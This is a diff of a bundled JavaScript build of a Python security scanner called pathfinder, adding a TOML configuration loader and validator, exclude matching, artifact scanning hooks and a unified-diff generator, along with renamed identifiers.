+      if (state.t === 2) {
+        let l = t.length - 1;
+        t = t[l];
+        m = m[l].c;
+      }
+    }
+    k = key[i2];
+    if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 && m[k]?.d) {
+      return null;
+    }
+    if (!hasOwn) {
+      let unsafe = k === "__proto__";
+      if (ctx.uk && (unsafe || k === "constructor"))
+        return false;
+      if (unsafe) {
+        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+        Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
+      }
+      m[k] = {
+        t: i2 < key.length - 1 && type === 2 ? 3 : type,
+        d: false,
+        i: 0,
+        c: /* @__PURE__ */ Object.create(null)
+      };
+    }
+  }
+  state = m[k];
+  if (state.t !== type && !(type === 1 && state.t === 3)) {
+    return null;
+  }
+  if (type === 2) {
+    if (!state.d) {
+      state.d = true;
+      t[k] = [];
+    }
+    t[k].push(t = /* @__PURE__ */ Object.create(null));
+    state.c[state.i++] = state = { t: 1, d: false, i: 0, c: /* @__PURE__ */ Object.create(null) };
+  }
+  if (state.d) {
+    return null;
+  }
+  state.d = true;
+  if (type === 1) {
+    t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
+  } else if (type === 0 && hasOwn) {
+    return null;
+  }
+  return [k, t, state.c];
+}
+function validateTablePeek(ctx, peek, ptr) {
+  if (peek === null || ctx.uk === 2)
+    TomlError.x(peek === null ? "trying to redefine an already defined table or value" : "document contains an unsafe property", ctx, ptr);
+}
+function parse(toml, options = {}) {
+  let ctx = {
+    s: toml,
+    p: 0,
+    d: options.maxDepth ?? 1e3,
+    bi: options.integersAsBigInt ?? false,
+    ld: options.useLegacyDate ?? true,
+    uk: options.unsafeKeyBehaviour === "throw" ? 2 : options.unsafeKeyBehaviour === "drop" ? 1 : 0
+  };
+  let res = /* @__PURE__ */ Object.create(null);
+  let meta = /* @__PURE__ */ Object.create(null);
+  let tmp;
+  let skipping = false;
+  let tbl = res;
+  let m = meta;
+  if (toml.charCodeAt(0) === 65279)
+    ctx.p++;
+  skipVoid(ctx);
+  while (ctx.p < toml.length) {
+    if (toml.charCodeAt(ctx.p) === 91) {
+      let isTableArray = toml.charCodeAt(++ctx.p) === 91;
+      tmp = ctx.p += +isTableArray;
+      skipping = false;
+      let k = parseKey(
+        ctx,
+        93
+        /* ] */
+      );
+      if (isTableArray) {
+        if (toml.charCodeAt(ctx.p) !== 93) {
+          TomlError.x("expected end of table array declaration", ctx);
+        }
+        ctx.p++;
+      }
+      let p = peekTable(
+        ctx,
+        k,
+        res,
+        meta,
+        isTableArray ? 2 : 1
+        /* Type.EXPLICIT */
+      );
+      if (!p) {
+        validateTablePeek(ctx, p, tmp);
+        skipping = true;
+      } else {
+        m = p[2];
+        tbl = p[1];
+      }
+    } else {
+      tmp = ctx.p;
+      let k = parseKey(ctx);
+      let p = peekTable(
+        ctx,
+        k,
+        tbl,
+        m,
+        0
+        /* Type.DOTTED */
+      );
+      if (!p && !skipping)
+        validateTablePeek(ctx, p, tmp);
+      skipVoid(ctx, true, true);
+      let v = extractValue2(ctx, void 0);
+      if (p && !skipping)
+        p[1][p[0]] = v;
+    }
+    skipVoid(ctx, true);
+    if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 10 && (tmp !== 13 || toml.charCodeAt(ctx.p + 1) !== 10)) {
+      TomlError.x("each key-value declaration must be followed by an end-of-line", ctx);
+    }
+    skipVoid(ctx);
+  }
+  return res;
+}
+
+// ../../main/node_modules/smol-toml/dist/stringify.js
+var HAS_WELLFORMED = !!"".isWellFormed;
+
+// src/core/types.ts
+var SEVERITIES = ["critical", "high", "medium", "low"];
+
+// src/core/severity.ts
+function severityRank(s) {
+  return SEVERITIES.length - SEVERITIES.indexOf(s);
+}
+function isSeverity(s) {
+  return SEVERITIES.includes(s);
+}
+function atLeast(s, threshold) {
+  return severityRank(s) >= severityRank(threshold);
+}
+
+// src/project/errors.ts
+var UsageError = class extends Error {
+};
+
+// src/project/config.ts
+var ConfigError = class extends UsageError {
+};
+var CONFIG_FILE_NAMES = ["pathfinder.toml", ".pathfinder.toml"];
+var PYPROJECT = "pyproject.toml";
+var MAX_CONFIG_BYTES = 1024 * 1024;
+var TOP_LEVEL_KEYS = ["exclude", "disable", "rules"];
+var RULE_KEYS = ["extra-sinks", "severity"];
+var QUALIFIED_NAME = /^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)+$/;
+function loadConfig(lookup) {
+  if (lookup.disabled) return void 0;
+  if (lookup.explicit !== void 0) {
+    const file = resolve2(lookup.cwd, lookup.explicit);
+    const text = readConfigText(file);
+    if (basename(file) === PYPROJECT) {
+      const config = fromPyproject(text, file);
+      if (!config) throw new ConfigError(`configuration ${file} has no [tool.pathfinder] table`);
+      return config;
+    }
+    return parseConfig(text, file);
+  }
+  return discoverConfig(resolve2(lookup.cwd, lookup.project));
+}
+function discoverConfig(project) {
+  let dir = isDirectory(project) ? project : dirname2(project);
+  for (; ; ) {
+    for (const name2 of CONFIG_FILE_NAMES) {
+      const file = join3(dir, name2);
+      if (isFile(file)) return parseConfig(readConfigText(file), file);
+    }
+    const pyproject = join3(dir, PYPROJECT);
+    if (isFile(pyproject)) {
+      const text = readConfigText(pyproject);
+      if (text.includes("pathfinder")) {
+        const config = fromPyproject(text, pyproject);
+        if (config) return config;
+      }
+    }
+    const parent = dirname2(dir);
+    if (parent === dir) return void 0;
+    dir = parent;
+  }
+}
+function parseConfig(text, file) {
+  return validate(parseToml(text, file), file, "");
+}
+function fromPyproject(text, file) {
+  const doc = parseToml(text, file);
+  const tool = doc.tool;
+  if (!isTable(tool) || tool.pathfinder === void 0) return void 0;
+  if (!isTable(tool.pathfinder)) throw invalid(file, "tool.pathfinder", "must be a table");
+  return validate(tool.pathfinder, file, "tool.pathfinder.");
+}
+function parseToml(text, file) {
+  try {
+    return parse(text);
+  } catch (e) {
+    if (e instanceof TomlError) {
+      const reason2 = e.message.split("\n")[0].replace(/^Invalid TOML document:\s*/, "");
+      throw new ConfigError(`invalid configuration ${file}:${e.line}:${e.column}: TOML syntax error: ${reason2}`);
+    }
+    throw new ConfigError(`invalid configuration ${file}: ${e.message}`);
+  }
+}
+function validate(table, file, prefix) {
+  const config = { file, baseDir: dirname2(file), exclude: [], disable: [], rules: {} };
+  for (const [key, value] of Object.entries(table)) {
+    const path = prefix + key;
+    switch (key) {
+      case "exclude":
+        config.exclude = stringList(value, file, path).map((pattern, i2) => {
+          if (!pattern.trim()) throw invalid(file, `${path}[${i2}]`, "empty pattern");
+          return pattern;
+        });
+        break;
+      case "disable":
+        config.disable = stringList(value, file, path).map((id, i2) => ruleId(id, file, `${path}[${i2}]`));
+        break;
+      case "rules":
+        if (!isTable(value)) throw invalid(file, path, `must be a table of rule IDs, e.g. [${prefix}rules.PYTHON-LANG-SEC-040]`);
+        for (const [id, settings] of Object.entries(value)) {
+          const canonical = ruleId(id, file, `${path}.${id}`);
+          config.rules[canonical] = ruleSettings(settings, file, `${path}.${id}`);
+        }
+        break;
+      default:
+        throw invalid(file, path, unknownKey(key, TOP_LEVEL_KEYS));
+    }
+  }
+  return config;
+}
+function ruleSettings(value, file, path) {
+  if (!isTable(value)) throw invalid(file, path, `must be a table (keys: ${RULE_KEYS.join(", ")})`);
+  const out2 = {};
+  for (const [key, v] of Object.entries(value)) {
+    const keyPath = `${path}.${key}`;
+    if (key === "extra-sinks") {
+      out2.extraSinks = stringList(v, file, keyPath).map((name2, i2) => {
+        if (!QUALIFIED_NAME.test(name2)) {
+          throw invalid(file, `${keyPath}[${i2}]`, `"${name2}" is not a dotted qualified name such as "myapp.cache.load_blob"`);
+        }
+        return name2;
+      });
+    } else if (key === "severity") {
+      if (typeof v !== "string") throw invalid(file, keyPath, `must be a string (${SEVERITIES.join(", ")}), not ${typeName(v)}`);
+      const severity = v.toLowerCase();
+      if (!isSeverity(severity)) throw invalid(file, keyPath, `unknown severity "${v}" (use ${SEVERITIES.join(", ")})`);
+      out2.severity = severity;
+    } else {
+      throw invalid(file, keyPath, unknownKey(key, RULE_KEYS));
+    }
+  }
+  return out2;
+}
+function ruleId(id, file, path) {
+  const bare = id.replace(/^python\//i, "");
+  const rule = PYTHON_RULES.find((r) => r.id.toUpperCase() === bare.toUpperCase());
+  if (rule) return rule.id;
+  const suggestion = closest(bare, PYTHON_RULES.map((r) => r.id));
+  throw invalid(file, path, `unknown rule ID "${id}"${suggestion ? `; did you mean "${suggestion}"?` : ""} (see: pathfinder rules list)`);
+}
+function stringList(value, file, path) {
+  if (!Array.isArray(value)) throw invalid(file, path, `must be an array of strings, not ${typeName(value)}`);
+  value.forEach((item, i2) => {
+    if (typeof item !== "string") throw invalid(file, `${path}[${i2}]`, `must be a string, not ${typeName(item)}`);
+  });
+  return value;
+}
+function unknownKey(key, known) {
+  const suggestion = closest(key, known);
+  return `unknown key${suggestion ? `; did you mean "${suggestion}"?` : ""} (known keys: ${known.join(", ")})`;
+}
+function invalid(file, key, reason2) {
+  return new ConfigError(`invalid configuration ${file}: ${key}: ${reason2}`);
+}
+function typeName(v) {
+  if (Array.isArray(v)) return "an array";
+  if (isTable(v)) return "a table";
+  if (typeof v === "string") return "a string";
+  if (typeof v === "number" || typeof v === "bigint") return "a number";
+  if (typeof v === "boolean") return "a boolean";
+  return "a date";
+}
+function isTable(v) {
+  return typeof v === "object" && v !== null && !Array.isArray(v) && !(v instanceof Date);
+}
+function readConfigText(file) {
+  let size;
+  try {
+    size = statSync(file).size;
+  } catch (e) {
+    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
+  }
+  if (size > MAX_CONFIG_BYTES) throw new ConfigError(`configuration file ${file} is over ${MAX_CONFIG_BYTES / 1024} KB; refusing to read it`);
+  try {
+    return readFileSync(file, "utf8").replace(/^\uFEFF/, "");
+  } catch (e) {
+    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
+  }
+}
+function isFile(path) {
+  try {
+    return statSync(path).isFile();
+  } catch {
+    return false;
+  }
+}
+function isDirectory(path) {
+  try {
+    return statSync(path).isDirectory();
+  } catch {
+    return false;
+  }
+}
+function configExcluder(config) {
+  if (!config?.exclude.length) return () => false;
+  const names = config.exclude.filter((p) => !p.includes("/"));
+  const paths = config.exclude.filter((p) => p.includes("/"));
+  const matchesName = names.length ? (0, import_picomatch.default)(names, { dot: true }) : () => false;
+  const matchesPath = paths.length ? (0, import_picomatch.default)(paths, { dot: true }) : () => false;
+  return (absPath) => {
+    const native = relative(config.baseDir, absPath);
+    if (!native || isAbsolute(native) || native === ".." || native.startsWith(".." + sep)) return false;
+    const parts2 = native.split(sep);
+    for (let i2 = 1; i2 <= parts2.length; i2++) {
+      const path = parts2.slice(0, i2).join("/");
+      if (matchesName(parts2[i2 - 1]) || matchesPath(path) || i2 < parts2.length && matchesPath(path + "/")) return true;
+    }
+    return false;
+  };
+}
+function prunableExcludes(config) {
+  return config?.exclude.filter((p) => !p.includes("/")) ?? [];
+}
+
 // src/project/discover.ts
 var import_ignore = __toESM(require_ignore(), 1);
-var import_picomatch = __toESM(require_picomatch2(), 1);
-import { lstat, open, readdir, readFile as readFile2, realpath, stat } from "node:fs/promises";
-import { basename, join as join2, relative, resolve as resolve2, sep } from "node:path";
+var import_picomatch2 = __toESM(require_picomatch2(), 1);
+import { lstat, open as open2, readdir, readFile as readFile2, realpath, stat } from "node:fs/promises";
+import { basename as basename2, join as join4, relative as relative2, resolve as resolve3, sep as sep2 } from "node:path";
 var DEFAULT_EXCLUDED_DIRS = /* @__PURE__ */ new Set([
   ".git",
   ".hg",
@@ -9193,16 +17101,16 @@ var PYTHON_EXTENSIONS = [".py", ".pyw"];
 var TEST_FILE = /(^|\/)(test_[^/]*\.py|[^/]*_test\.py|conftest\.py)$/;
 var TEST_DIR = /(^|\/)(tests?|testing)(\/|$)/;
 async function discover(root, options) {
-  const absRoot = resolve2(root);
+  const absRoot = resolve3(root);
   const files = [];
   const errors = [];
-  const isIncluded = options.include.length ? (0, import_picomatch.default)(options.include, { dot: true }) : () => true;
-  const isExcluded = options.exclude.length ? (0, import_picomatch.default)(options.exclude, { dot: true }) : () => false;
-  const excludedPath = (rel) => isExcluded(rel) || isExcluded(basename(rel));
+  const isIncluded = options.include.length ? (0, import_picomatch2.default)(options.include, { dot: true }) : () => true;
+  const isExcluded = options.exclude.length ? (0, import_picomatch2.default)(options.exclude, { dot: true }) : () => false;
+  const excludedPath = (rel) => isExcluded(rel) || isExcluded(basename2(rel));
   const rootStat = await stat(absRoot);
   if (!rootStat.isDirectory()) {
-    const rel = basename(absRoot);
-    files.push({ absPath: absRoot, relPath: rel, size: rootStat.size, kind: await classify(absRoot, rel) });
+    const rel = basename2(absRoot);
+    files.push({ absPath: absRoot, relPath: rel, size: rootStat.size, kind: await classify2(absRoot, rel) });
     return { files, errors };
   }
   const stack = [{ dir: absRoot, ignores: [], ancestors: /* @__PURE__ */ new Set() }];
@@ -9230,16 +17138,16 @@ async function discover(root, options) {
     const ignores = options.gitignore ? await withGitignore(dir, inherited) : inherited;
     entries.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
     for (const entry of entries) {
-      const abs = join2(dir, entry.name);
-      const rel = toPosix(relative(absRoot, abs));
+      const abs = join4(dir, entry.name);
+      const rel = toPosix(relative2(absRoot, abs));
       let isDir = entry.isDirectory();
-      let isFile = entry.isFile();
+      let isFile2 = entry.isFile();
       let size = 0;
       if (entry.isSymbolicLink()) {
         try {
           const target = await stat(abs);
           isDir = target.isDirectory();
-          isFile = target.isFile();
+          isFile2 = target.isFile();
           size = target.size;
         } catch (e) {
           const loop = e.code === "ELOOP";
@@ -9252,7 +17160,7 @@ async function discover(root, options) {
         if (isIgnored(ignores, abs, true)) continue;
         if (options.skipTests && TEST_DIR.test(rel)) continue;
         stack.push({ dir: abs, ignores, ancestors: lineage });
-      } else if (isFile) {
+      } else if (isFile2) {
         if (excludedPath(rel) || !isIncluded(rel) || isIgnored(ignores, abs, false)) continue;
         if (options.skipTests && (TEST_FILE.test(rel) || TEST_DIR.test(rel))) continue;
         if (!size) {
@@ -9263,17 +17171,17 @@ async function discover(root, options) {
             continue;
           }
         }
-        files.push({ absPath: abs, relPath: rel, size, kind: await classify(abs, rel) });
+        files.push({ absPath: abs, relPath: rel, size, kind: await classify2(abs, rel) });
       }
     }
   }
   files.sort((a, b) => a.relPath < b.relPath ? -1 : a.relPath > b.relPath ? 1 : 0);
   return { files, errors };
 }
-async function classify(abs, rel) {
+async function classify2(abs, rel) {
   const lower = rel.toLowerCase();
   if (PYTHON_EXTENSIONS.some((e) => lower.endsWith(e))) return "python";
-  if (basename(rel).includes(".")) return "other";
+  if (basename2(rel).includes(".")) return "other";
   try {
     const head = (await readFileHead(abs, 128)).toString("latin1");
     if (/^#!.*\bpython[0-9.]*\b/.test(head)) return "python";
@@ -9282,7 +17190,7 @@ async function classify(abs, rel) {
   return "other";
 }
 async function readFileHead(abs, bytes) {
-  const fh = await open(abs, "r");
+  const fh = await open2(abs, "r");
   try {
     const buf = Buffer.alloc(bytes);
     const { bytesRead } = await fh.read(buf, 0, bytes, 0);
@@ -9294,7 +17202,7 @@ async function readFileHead(abs, bytes) {
 async function withGitignore(dir, inherited) {
   let text;
   try {
-    text = await readFile2(join2(dir, ".gitignore"), "utf8");
+    text = await readFile2(join4(dir, ".gitignore"), "utf8");
   } catch {
     return inherited;
   }
@@ -9302,21 +17210,21 @@ async function withGitignore(dir, inherited) {
 }
 function isIgnored(ignores, abs, isDir) {
   for (const { base, rules } of ignores) {
-    const rel = toPosix(relative(base, abs));
+    const rel = toPosix(relative2(base, abs));
     if (!rel || rel.startsWith("..")) continue;
     if (rules.ignores(isDir ? rel + "/" : rel)) return true;
   }
   return false;
 }
-function problem(root, abs, kind, message2) {
-  return { file: toPosix(relative(root, abs)) || ".", kind, level: "warning", message: message2 };
+function problem(root, abs, kind, message15) {
+  return { file: toPosix(relative2(root, abs)) || ".", kind, level: "warning", message: message15 };
 }
 function reason(e) {
   const err2 = e;
   return err2.code ? `${err2.code} ${err2.message.replace(/^[A-Z]+: /, "")}` : String(e);
 }
 function toPosix(p) {
-  return sep === "/" ? p : p.split(sep).join("/");
+  return sep2 === "/" ? p : p.split(sep2).join("/");
 }
 
 // src/project/module-name.ts
@@ -9380,8 +17288,8 @@ function declaredEncoding(bytes) {
 function tooLarge(relPath, size, maxBytes) {
   return warn(relPath, "too-large", `file is ${formatBytes(size)}, over the ${formatBytes(maxBytes)} limit (--max-file-size); skipped`);
 }
-function warn(file, kind, message2) {
-  return { file, kind, level: "warning", message: message2 };
+function warn(file, kind, message15) {
+  return { file, kind, level: "warning", message: message15 };
 }
 function formatBytes(n) {
   if (n >= 1024 * 1024) return `${(n / (1024 * 1024)).toFixed(1)} MB`;
@@ -9391,11 +17299,11 @@ function formatBytes(n) {
 
 // src/project/worker-pool.ts
 import { Worker } from "node:worker_threads";
-function workerPoolAnalyzer(ruleIds, size) {
+function workerPoolAnalyzer(spec, size) {
   const url = new URL("./worker.js", import.meta.url);
   let nextId = 0;
   const workers = Array.from({ length: size }, () => {
-    const worker = new Worker(url, { workerData: { ruleIds } });
+    const worker = new Worker(url, { workerData: { spec } });
     const pending = /* @__PURE__ */ new Map();
     const slot = { worker, pending, failure: void 0 };
     worker.on("message", (msg) => {
@@ -9423,13 +17331,13 @@ function workerPoolAnalyzer(ruleIds, size) {
     analyze(file) {
       const alive = workers.filter((w) => !w.failure);
       if (!alive.length) {
-        const message2 = `analysis workers failed: ${workers[0].failure?.message}`;
-        return Promise.resolve({ findings: [], parsed: false, errors: [{ file: file.path, kind: "internal", level: "error", message: message2 }] });
+        const message15 = `analysis workers failed: ${workers[0].failure?.message}`;
+        return Promise.resolve({ findings: [], parsed: false, errors: [{ file: file.path, kind: "internal", level: "error", message: message15 }] });
       }
       const target = alive.reduce((a, b) => b.pending.size < a.pending.size ? b : a);
       const id = nextId++;
-      return new Promise((resolve7, reject) => {
-        target.pending.set(id, { resolve: resolve7, reject, file });
+      return new Promise((resolve9, reject) => {
+        target.pending.set(id, { resolve: resolve9, reject, file });
         target.worker.postMessage({ id, file });
       });
     },
@@ -9440,27 +17348,36 @@ function workerPoolAnalyzer(ruleIds, size) {
 }
 
 // src/project/scan.ts
-var UsageError = class extends Error {
-};
 var WORKER_THRESHOLD_BYTES = 2 * 1024 * 1024;
 var READ_CONCURRENCY = 32;
 async function scanProject(options) {
   const started = Date.now();
-  const resolution = resolveRulesets(options.rulesets);
-  if (!resolution.ok) throw new UsageError(resolution.error);
-  const rules = resolution.rules;
-  const target = resolve3(options.target);
+  const config = options.config;
+  const split = splitRulesets(options.rulesets);
+  if ("error" in split) throw new UsageError(split.error);
+  let spec = { ruleIds: [] };
+  if (split.runPython) {
+    const resolution = ruleSetSpec(split.python, { disable: config?.disable, customizations: config?.rules, source: config?.file });
+    if (!resolution.ok) throw new UsageError(resolution.error);
+    spec = resolution.spec;
+  }
+  const rules = buildRuleSet(spec);
+  const disabled = new Set((config?.disable ?? []).map((id) => id.toUpperCase()));
+  const artifactRules = split.artifactRules.filter((r) => !disabled.has(r.id.toUpperCase()));
+  const target = resolve4(options.target);
   let discovery;
   try {
-    discovery = await discover(target, options);
+    discovery = await discover(target, { ...options, exclude: [...options.exclude, ...prunableExcludes(config)] });
   } catch (e) {
     throw new UsageError(`cannot scan "${options.target}": ${e.code === "ENOENT" ? "no such file or directory" : e.message}`);
   }
-  const errors = [...discovery.errors];
+  const excluded = configExcluder(config);
+  const root = (await stat2(target)).isDirectory() ? target : dirname3(target);
+  const errors = discovery.errors.filter((e) => !excluded(join5(root, e.file)));
   const findings = [];
-  const pythonFiles = discovery.files.filter((f) => f.kind === "python");
-  const candidates = await readCandidates(pythonFiles, rules, options.maxFileSize, errors);
-  const analyzer = await chooseAnalyzer(rules, candidates, options.jobs);
+  const pythonFiles = rules.length > 0 ? discovery.files.filter((f) => f.kind === "python" && !excluded(f.absPath)) : [];
+  const candidates = await readCandidates(pythonFiles, rules, options.maxFileSize, errors, options.onSourceRead);
+  const analyzer = await chooseAnalyzer(spec, rules, candidates, options.jobs);
   let done = 0;
   try {
     const results = await Promise.all(
@@ -9477,6 +17394,15 @@ async function scanProject(options) {
   } finally {
     await analyzer.close();
   }
+  let artifactsScanned = 0;
+  if (artifactRules.length > 0) {
+    const enabled = new Set(artifactRules.map((r) => r.id));
+    const others = discovery.files.filter((f) => f.kind === "other" && !excluded(f.absPath));
+    const artifacts = await scanArtifactFiles(others, options.pickle ?? {});
+    findings.push(...artifacts.findings.filter((f) => enabled.has(f.ruleId)));
+    errors.push(...artifacts.errors);
+    artifactsScanned = artifacts.scanned;
+  }
   findings.sort(compareFindings);
   errors.sort(compareErrors);
   return {
@@ -9485,15 +17411,15 @@ async function scanProject(options) {
       target,
       timestamp: new Date(started).toISOString(),
       durationMs: Date.now() - started,
-      rulesExecuted: rules.map((r) => r.id),
-      filesScanned: pythonFiles.length
+      rulesExecuted: [...rules.map((r) => r.id), ...artifactRules.map((r) => r.id)],
+      filesScanned: pythonFiles.length + artifactsScanned
     },
-    rules: rules.map(metaOf),
+    rules: [...rules.map(ruleMeta), ...artifactRules],
     findings,
     errors
   };
 }
-async function readCandidates(files, rules, maxBytes, errors) {
+async function readCandidates(files, rules, maxBytes, errors, onSourceRead) {
   const tokens = [...new Set(rules.flatMap((r) => r.prefilter))].map((t) => Buffer.from(t, "utf8"));
   const out2 = new Array(files.length);
   let next = 0;
@@ -9512,46 +17438,33 @@ async function readCandidates(files, rules, maxBytes, errors) {
         errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
         continue;
       }
-      if (!tokens.some((t) => bytes.includes(t))) continue;
+      if (!tokens.some((t) => bytes.includes(t)) && !mayImportDynamically(bytes)) continue;
       const decoded = decodePython(bytes, file.relPath, maxBytes);
       if (!decoded.ok) {
         errors.push(decoded.error);
         continue;
       }
       if (decoded.warning) errors.push(decoded.warning);
+      onSourceRead?.(file, bytes);
       out2[i2] = { file, source: decoded.source };
     }
   };
   await Promise.all(Array.from({ length: Math.min(READ_CONCURRENCY, files.length) }, worker));
   return out2.filter((c) => c !== void 0);
 }
-async function chooseAnalyzer(rules, candidates, jobs) {
+var DYNAMIC_IMPORT_TOKENS = [Buffer.from("__import__"), Buffer.from("import_module")];
+function mayImportDynamically(bytes) {
+  return DYNAMIC_IMPORT_TOKENS.some((t) => bytes.includes(t)) && hasComputedDynamicImport(bytes.toString("latin1"));
+}
+async function chooseAnalyzer(spec, rules, candidates, jobs) {
   const bytes = candidates.reduce((n, c) => n + c.source.length, 0);
   const size = jobs ?? (bytes >= WORKER_THRESHOLD_BYTES ? Math.max(1, Math.min(availableParallelism(), 8)) : 0);
-  return size > 0 ? workerPoolAnalyzer(rules.map((r) => r.id), size) : inProcessAnalyzer(rules);
-}
-function metaOf(rule) {
-  const { prefilter: _prefilter, sinks: _sinks, ...meta } = rule;
-  return meta;
+  return size > 0 ? workerPoolAnalyzer(spec, size) : inProcessAnalyzer(rules);
 }
 
 // src/ci/command.ts
-import { resolve as resolve5 } from "node:path";
+import { resolve as resolve7 } from "node:path";
 import { parseArgs as parseArgs2 } from "node:util";
-
-// src/core/types.ts
-var SEVERITIES = ["critical", "high", "medium", "low"];
-
-// src/core/severity.ts
-function severityRank(s) {
-  return SEVERITIES.length - SEVERITIES.indexOf(s);
-}
-function isSeverity(s) {
-  return SEVERITIES.includes(s);
-}
-function atLeast(s, threshold) {
-  return severityRank(s) >= severityRank(threshold);
-}
 
 // src/report/codeclimate.ts
 var SEVERITY = { critical: "blocker", high: "critical", medium: "major", low: "minor" };
@@ -9876,7 +17789,7 @@ ${rule.docs.references.map((r) => `- ${r.title}: ${r.url}`).join("\n")}`);
   return parts2.join("\n\n");
 }
 function fenced(code3, language) {
-  const longestRun = Math.max(0, ...(code3.match(/`+/g) ?? []).map((run2) => run2.length));
+  const longestRun = Math.max(0, ...(code3.match(/`+/g) ?? []).map((run3) => run3.length));
   const fence = "`".repeat(Math.max(3, longestRun + 1));
   return `${fence}${language}
 ${code3}
@@ -9933,16 +17846,16 @@ function toSarifLog(report) {
   if (informationUri) driver.informationUri = informationUri;
   if (SEMVER.test(report.tool.version)) driver.semanticVersion = report.tool.version;
   driver.rules = descriptors;
-  const run2 = {
+  const run3 = {
     tool: { driver },
     invocations: [invocation(report)]
   };
   if (isAbsolutePath(report.scan.target)) {
-    run2.originalUriBaseIds = { [SRCROOT]: { uri: directoryFileUri(report.scan.target) } };
+    run3.originalUriBaseIds = { [SRCROOT]: { uri: directoryFileUri(report.scan.target) } };
   }
-  run2.results = report.findings.map((f) => result(f, ruleIndex.get(f.ruleId)));
-  run2.columnKind = "utf16CodeUnits";
-  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs: [run2] };
+  run3.results = report.findings.map((f) => result(f, ruleIndex.get(f.ruleId)));
+  run3.columnKind = "utf16CodeUnits";
+  return { $schema: SARIF_SCHEMA_URI, version: "2.1.0", runs: [run3] };
 }
 function renderSarif(report) {
   return JSON.stringify(toSarifLog(report), null, 2) + "\n";
@@ -10141,9 +18054,9 @@ function painter(color) {
   return {
     paint(text, ...styles) {
       if (text === "" || styles.length === 0) return text;
-      const open2 = styles.map((s) => `${ESC}${STYLE_CODES[s][0]}m`).join("");
+      const open3 = styles.map((s) => `${ESC}${STYLE_CODES[s][0]}m`).join("");
       const close = styles.map((s) => `${ESC}${STYLE_CODES[s][1]}m`).reverse().join("");
-      return open2 + text + close;
+      return open3 + text + close;
     }
   };
 }
@@ -10374,22 +18287,363 @@ function renderReport(format, report, options) {
 }
 
 // src/cli/commands/scan.ts
-import { readFileSync as readFileSync2, statSync } from "node:fs";
-import { join as join4 } from "node:path";
+import { readFileSync as readFileSync3, statSync as statSync2 } from "node:fs";
+import { join as join7 } from "node:path";
 import { parseArgs } from "node:util";
+
+// src/project/fix.ts
+import { createHash } from "node:crypto";
+import { readFile as readFile4, stat as stat3, writeFile as writeFile2 } from "node:fs/promises";
+import { basename as basename3, isAbsolute as isAbsolute2, relative as relative3, resolve as resolve5 } from "node:path";
+
+// src/project/unified-diff.ts
+var MAX_EDIT_DISTANCE = 500;
+function unifiedDiff(oldText, newText, labels, context = 3) {
+  if (oldText === newText) return "";
+  const a = splitLines(oldText);
+  const b = splitLines(newText);
+  const ops = editScript(a, b);
+  const out2 = [`--- ${labels.from}
+`, `+++ ${labels.to}
+`];
+  for (const hunk of hunks(ops, context)) out2.push(...hunk);
+  return out2.join("");
+}
+function splitLines(text) {
+  const lines = [];
+  let start2 = 0;
+  for (let nl = text.indexOf("\n"); nl >= 0; nl = text.indexOf("\n", start2)) {
+    lines.push(text.slice(start2, nl + 1));
+    start2 = nl + 1;
+  }
+  if (start2 < text.length) lines.push(text.slice(start2));
+  return lines;
+}
+function editScript(a, b) {
+  let prefix = 0;
+  while (prefix < a.length && prefix < b.length && a[prefix] === b[prefix]) prefix++;
+  let suffix = 0;
+  while (suffix < a.length - prefix && suffix < b.length - prefix && a[a.length - 1 - suffix] === b[b.length - 1 - suffix]) suffix++;
+  const middle = myers(a.slice(prefix, a.length - suffix), b.slice(prefix, b.length - suffix));
+  return [
+    ...a.slice(0, prefix).map((text) => ({ kind: " ", text })),
+    ...middle,
+    ...a.slice(a.length - suffix).map((text) => ({ kind: " ", text }))
+  ];
+}
+function myers(a, b) {
+  const n = a.length;
+  const m = b.length;
+  const max = Math.min(n + m, MAX_EDIT_DISTANCE);
+  const offset = max + 1;
+  let v = new Int32Array(2 * max + 3);
+  const trace = [];
+  for (let d = 0; d <= max; d++) {
+    trace.push(v.slice());
+    const next = v.slice();
+    for (let k = -d; k <= d; k += 2) {
+      let x = k === -d || k !== d && v[offset + k - 1] < v[offset + k + 1] ? v[offset + k + 1] : v[offset + k - 1] + 1;
+      let y = x - k;
+      while (x < n && y < m && a[x] === b[y]) {
+        x++;
+        y++;
+      }
+      next[offset + k] = x;
+      if (x >= n && y >= m) return backtrack(trace, a, b, d, offset);
+    }
+    v = next;
+  }
+  return [...a.map((text) => ({ kind: "-", text })), ...b.map((text) => ({ kind: "+", text }))];
+}
+function backtrack(trace, a, b, dFinal, offset) {
+  const ops = [];
+  let x = a.length;
+  let y = b.length;
+  for (let d = dFinal; d > 0; d--) {
+    const v = trace[d];
+    const k = x - y;
+    const down = k === -d || k !== d && v[offset + k - 1] < v[offset + k + 1];
+    const prevK = down ? k + 1 : k - 1;
+    const prevX = v[offset + prevK];
+    const prevY = prevX - prevK;
+    while (x > prevX && y > prevY) {
+      ops.push({ kind: " ", text: a[--x] });
+      y--;
+    }
+    if (down) ops.push({ kind: "+", text: b[--y] });
+    else ops.push({ kind: "-", text: a[--x] });
+  }
+  while (x > 0 && y > 0) {
+    ops.push({ kind: " ", text: a[--x] });
+    y--;
+  }
+  return ops.reverse();
+}
+function hunks(ops, context) {
+  const out2 = [];
+  const changed = ops.map((op, i3) => op.kind === " " ? -1 : i3).filter((i3) => i3 >= 0);
+  let i2 = 0;
+  while (i2 < changed.length) {
+    let end = changed[i2];
+    let j = i2;
+    while (j + 1 < changed.length && changed[j + 1] - end <= 2 * context) end = changed[++j];
+    const from = Math.max(0, changed[i2] - context);
+    const to = Math.min(ops.length - 1, end + context);
+    out2.push(renderHunk(ops, from, to));
+    i2 = j + 1;
+  }
+  return out2;
+}
+function renderHunk(ops, from, to) {
+  let oldStart = 1;
+  let newStart = 1;
+  for (let i2 = 0; i2 < from; i2++) {
+    if (ops[i2].kind !== "+") oldStart++;
+    if (ops[i2].kind !== "-") newStart++;
+  }
